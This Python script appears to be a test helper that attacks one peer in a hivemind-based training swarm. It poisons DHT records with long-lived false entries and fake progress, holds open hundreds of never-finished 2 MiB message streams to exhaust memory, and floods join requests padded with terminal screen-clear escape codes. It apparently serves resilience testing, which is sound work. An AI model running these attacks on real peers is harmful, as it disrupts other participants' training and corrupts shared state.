"""Somebody who does to a peer what fills memory, disks and hash tables: `python one_attacker.py FOLDER`, as a process.

FOLDER/settings.json names the run and its first peer, the victim. Each attack is announced on standard output as it
ends; the streams that it has opened stay open until standard input ends.
"""

import asyncio
import json
import os
import sys
from pathlib import Path

import hivemind
from hivemind.averaging.averager import DecentralizedAverager
from hivemind.optim.grad_averager import GradientAverager
from hivemind.optim.state_averager import TrainingStateAverager
from hivemind.p2p import P2P, PeerID
from hivemind.proto import averaging_pb2
from hivemind.utils import MSGPackSerializer, get_dht_time

from dalle_lib.auth import Identity
from dalle_lib.run import RunCard
from dalle_lib.swarm.averaging.group_keys import group_keys
from dalle_lib.swarm.averaging.introductions import Introduction, signed
from dalle_lib.swarm.peer.membership import IDENTITY

FAR_S = 1e6
"""Seconds for which the attacker's records would stay."""
STREAMS, MESSAGE_BYTES = 100, 2**21
RECORDS, TEXTS, TEXT_BYTES = 300, 2000, 50_000


def spoil_records(settings: dict, key: str) -> None:
    """Write false records under every key of the averagers and of progress, for long and in place of others."""
    dht = hivemind.DHT(start=True, initial_peers=settings["initial_peers"], client_mode=True)
    victim, expires = PeerID.from_base58(settings["victim"]).to_bytes(), get_dht_time() + FAR_S
    told = []
    for rounds in f"{key}_grad_averager", f"{key}_state_averager":
        for name in (*group_keys(rounds), f"{rounds}.all_averagers"):
            told.append(dht.store(name, "nobody", expires, return_future=True))
            told.append(dht.store(name, False, expires, subkey=victim, return_future=True))
    for number in range(RECORDS):
        record = {"peer_id": os.urandom(34), "epoch": 10**6, "samples_accumulated": 10**9, "samples_per_second": 1e12,
                  "time": get_dht_time(), "client_mode": False}  # fmt: skip
        told.append(dht.store(f"{key}_progress", record, expires, subkey=b"%d" % number, return_future=True))
    print("records", sum(map(bool, (each.result() for each in told))), "stored", flush=True)
    dht.shutdown()


async def hold(stub, p2p: P2P, averager: type[DecentralizedAverager], key: str, victim: PeerID) -> list:
    """Open streams that send long messages, one that is never whole, and return what keeps them open."""
    part = averaging_pb2.AveragingData(group_id=b"none", tensor_part={"buffer": bytes(MESSAGE_BYTES - 100)})

    async def parts():
        while True:
            yield part

    kept = []
    for _ in range(STREAMS):
        kept.append(await stub.rpc_aggregate_part(parts()))
        name = averager._get_handle_name(key, "rpc_aggregate_part")
        _, reader, writer = await p2p.call_binary_stream_handler(victim, name)
        writer.write(P2P.MESSAGE_MARKER + MESSAGE_BYTES.to_bytes(P2P.HEADER_LEN, P2P.BYTEORDER))
        writer.write(bytes(MESSAGE_BYTES - 1))
        kept.append((reader, writer))
    return kept


async def attack(folder: Path, settings: dict, key: str) -> None:
    """Attack the averagers of the victim."""
    identity = str(folder / IDENTITY)
    own = Identity.load_or_create(identity)
    p2p = await P2P.create(initial_peers=settings["initial_peers"], identity_path=identity)
    victim, kept = PeerID.from_base58(settings["victim"]), []
    for averager, name in (GradientAverager, "grad_averager"), (TrainingStateAverager, "state_averager"):
        rounds = f"{key}_{name}"
        stub = averager.get_stub(p2p, victim, namespace=rounds)
        kept += await hold(stub, p2p, averager, rounds, victim)
        for _ in range(STREAMS):
            kept.append(await stub.rpc_download_state(averaging_pb2.DownloadRequest()))
        print("streams of", name, flush=True)
    stub = GradientAverager.get_stub(p2p, victim, namespace=f"{key}_grad_averager")
    told = signed(Introduction(token=b"\x1b[2J" * (TEXT_BYTES // 4)), "other rounds" * 1000, own)
    join = averaging_pb2.JoinRequest(
        schema_hash=b"unknown",
        expiration=get_dht_time() + 10,
        gather=MSGPackSerializer.dumps([None, 0, MSGPackSerializer.dumps(told)]),
        group_key=f"{key}_grad_averager.0b",
    )
    for _ in range(TEXTS // 8):
        answers = await asyncio.gather(*(stub.rpc_join_group(join) for _ in range(8)))
        for answer in answers:
            await answer.aclose()
    print("texts", flush=True)
    await asyncio.get_running_loop().run_in_executor(None, sys.stdin.readline)


if __name__ == "__main__":
    place = Path(sys.argv[1])
    known = json.loads((place / "settings.json").read_text())
    of_run = RunCard.load(known["run"]).key
    spoil_records(known, of_run)
    asyncio.run(attack(place, known, of_run))
    os._exit(0)
